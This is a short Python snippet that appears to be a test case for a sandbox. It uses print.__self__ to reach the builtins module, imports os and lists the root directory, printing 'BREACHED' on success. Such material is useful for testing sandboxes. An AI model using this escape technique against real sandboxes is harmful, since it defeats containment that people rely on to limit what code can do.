# fence: rejected | walls: error
class Print:
    def reach(self):
        return print.__self__
os = Print().reach().__import__("os")
print("BREACHED" if os.listdir("/") else "empty")
